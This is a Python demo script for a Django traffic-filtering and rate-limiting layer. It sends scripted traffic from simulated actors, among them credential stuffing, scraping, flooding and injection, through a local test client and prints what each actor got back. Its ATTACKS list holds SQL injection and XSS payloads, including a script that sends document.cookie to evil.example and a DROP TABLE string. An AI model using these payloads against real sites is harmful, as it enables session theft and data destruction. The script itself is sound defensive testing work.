"""Run the demo site under scripted traffic and show what each actor got.

python example/demo.py            # embedded fakeredis
REDIS_URL=redis://127.0.0.1:6379/0 python example/demo.py
"""

from __future__ import annotations

import os
import sys
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "demo_site.settings")

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
BOT = "python-requests/2.32.3"


@dataclass
class Actor:
    name: str
    story: str
    ip: str
    ua: str = BROWSER
    username: str | None = None
    statuses: Counter = field(default_factory=Counter)
    retry_after: list[str] = field(default_factory=list)
    first_refusal: str = ""
    headers: str = ""

    def client(self):
        from django.test import Client

        c = Client(REMOTE_ADDR=self.ip, HTTP_USER_AGENT=self.ua)
        if self.username:
            from django.contrib.auth import get_user_model

            c.force_login(get_user_model().objects.get(username=self.username))
        return c

    def record(self, response) -> None:
        self.statuses[response.status_code] += 1
        if "RateLimit" in response and not self.headers:
            self.headers = (
                f"RateLimit-Policy: {response['RateLimit-Policy']}\n    RateLimit: {response['RateLimit']}"
            )
        if response.status_code in (403, 429):
            if response.get("Retry-After"):
                self.retry_after.append(response["Retry-After"])
            if not self.first_refusal:
                self.first_refusal = response.content.decode()[:160]


def step(text: str) -> None:
    print(f"  ... {text}", flush=True)


def setup() -> None:
    import django
    from django.core.management import call_command

    django.setup()
    call_command("migrate", verbosity=0)
    from django.contrib.auth import get_user_model

    User = get_user_model()
    for name, plan in (("alice", "free"), ("bob", "pro"), ("carol", "free")):
        User.objects.update_or_create(username=name, defaults={"plan": plan})


def traffic() -> list[Actor]:
    alice = Actor("alice", "signed in, free plan, browses the API", "198.51.100.10", username="alice")
    bob = Actor("bob", "signed in, pro plan, browses briskly", "198.51.100.11", username="bob")
    visitor = Actor("visitor", "anonymous, reads a few pages", "203.0.113.20")
    greedy = Actor("greedy", "anonymous script, 40 calls in a row", "203.0.113.21")
    carol = Actor(
        "carol", "free plan, exports until her lifetime quota is gone", "198.51.100.12", username="carol"
    )
    stuffer = Actor("stuffer", "credential stuffing: POST /api/login/, all fail", "192.0.2.66", ua=BOT)
    scraper = Actor("scraper", "walks /api/items/1, 2, 3 ... after a normal start", "192.0.2.77", ua=BOT)
    flooder = Actor("flooder", "60 requests as fast as it can", "192.0.2.88", ua=BROWSER)
    nobody = Actor("no-UA", "sends no User-Agent at all", "192.0.2.99", ua="")
    writer = Actor(
        "writer", "posts tricky but honest comments (O'Brien, SQL questions, HTML)", "198.51.100.30"
    )
    injector = Actor("injector", "SQL injection and XSS in bodies and query strings", "192.0.2.44", ua=BOT)

    step("alice, bob and an anonymous visitor browse")
    for actor, n, pause in ((alice, 25, 0.0), (bob, 40, 0.15), (visitor, 8, 0.0)):
        c = actor.client()
        for i in range(n):
            actor.record(c.get("/api/items/" if i % 3 == 0 else f"/api/items/{(i * 37) % 400 + 1}/"))
            actor.record(c.get("/health/"))
            time.sleep(pause)
    step("an anonymous script goes past its 30/minute")
    c = greedy.client()
    for i in range(40):
        greedy.record(c.get(f"/api/items/{i * 13 % 97 + 1}/?page={i}"))
        time.sleep(0.25)  # a steady script, not a burst: the rate limit answers, not a ban
    step("carol exports until her lifetime quota of 5 runs out")
    c = carol.client()
    for _ in range(8):
        carol.record(c.get("/api/export/"))
    step("a credential stuffer tries passwords")
    c = stuffer.client()
    for i in range(15):
        stuffer.record(c.post("/api/login/", {"username": f"user{i}", "password": "123456"}))
    step("a scraper walks sequential ids")
    c = scraper.client()
    for i in range(20):
        scraper.record(c.get(f"/api/items/{i * 53 % 400 + 100}/"))
        time.sleep(0.3)
    for i in range(1, 16):
        scraper.record(c.get(f"/api/items/{i}/"))
        time.sleep(0.3)
    step("a flooder fires 60 requests at once")
    c = flooder.client()
    for i in range(60):
        flooder.record(c.get(f"/?n={i}"))
    step("a client without User-Agent")
    c = nobody.client()
    for _ in range(3):
        nobody.record(c.get("/"))
    step("a writer posts comments that only look dangerous")
    c = writer.client()
    for text in HONEST:
        writer.record(c.post("/api/comments/", {"text": text}, content_type="application/json"))
        time.sleep(0.2)
    step("an injector tries SQL injection and XSS")
    c = injector.client()
    for i, payload in enumerate(ATTACKS):
        if i % 2:
            injector.record(c.get("/api/items/", {"q": payload}))
        else:
            injector.record(c.post("/api/comments/", {"text": payload}, content_type="application/json"))
        time.sleep(0.2)
    return [alice, bob, visitor, greedy, carol, stuffer, scraper, flooder, nobody, writer, injector]


HONEST = [
    "Great service from Siobhan O'Brien -- thank you!",
    "How do I SELECT the newest order per customer? I tried GROUP BY but it's slow.",
    "<p>Loved it &amp; will <b>buy again</b>; 5 stars</p>",
    "Is the system prompt of your support bot public? Just curious.",
    "Tip: run `ls -la` in the export folder, then cd .. to go back.",
]
ATTACKS = [
    "' OR 1=1 --",
    "1 UNION SELECT username, password FROM users--",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "'; DROP TABLE orders; --",
    "<img src=x onerror=alert(1)>",
    "1' AND SLEEP(5)#",
    "hello again",
]


def report(actors: list[Actor]) -> None:
    print()
    print(f"{'actor':<9} {'requests':>8} {'2xx':>5} {'401/404':>8} {'429':>5} {'403':>5}  Retry-After seen")
    print("-" * 72)
    for a in actors:
        s = a.statuses
        errors = s[401] + s[404]
        ok = sum(v for k, v in s.items() if 200 <= k < 300)
        retry = ", ".join(sorted(set(a.retry_after), key=int)[:6]) or "-"
        print(f"{a.name:<9} {sum(s.values()):>8} {ok:>5} {errors:>8} {s[429]:>5} {s[403]:>5}  {retry}")
    print()
    for a in actors:
        print(f"{a.name}: {a.story}")
        if a.first_refusal:
            print(f"    first refusal: {a.first_refusal}")
    sample = next((a for a in actors if a.headers), None)
    if sample:
        print()
        print(f"Headers on an admitted response ({sample.name}):\n    {sample.headers}")


def bans() -> None:
    from io import StringIO

    from django.core.management import call_command

    out = StringIO()
    call_command("smartlayer", "bans", "list", stdout=out)
    print("\n$ python manage.py smartlayer bans list")
    print(out.getvalue().rstrip())


def daily_report() -> None:
    from io import StringIO

    from django.core.management import call_command
    from django.utils import timezone

    today = timezone.localdate().isoformat()
    out = StringIO()
    call_command("analyse_logs", "--date", today, "--no-ai", stdout=out, stderr=out)
    print(f"\n$ python manage.py analyse_logs --date {today} --no-ai    (normally: yesterday, with the AI)")
    print(out.getvalue().rstrip())


def main() -> None:
    started = time.monotonic()
    store = os.environ.get("REDIS_URL") or "the embedded fakeredis (set REDIS_URL to use a real Redis)"
    print(f"smartlayer demo: an example API site on {store}")
    step("migrating the demo database and creating users alice (free), bob (pro), carol (free)")
    setup()
    from smartlayer.conf import get_config

    print(f"  key prefix for this run: {get_config().key_prefix}")
    actors = traffic()
    report(actors)
    bans()
    daily_report()
    if os.environ.get("REDIS_URL"):
        from smartlayer.store import get_store

        client = get_store().client
        names = list(client.scan_iter(match=f"{get_config().key_prefix}:*", count=1000))
        if names:
            client.delete(*names)
        print(f"removed this run's {len(names)} keys from Redis")
    print(f"\ndone in {time.monotonic() - started:.1f}s")


if __name__ == "__main__":
    main()
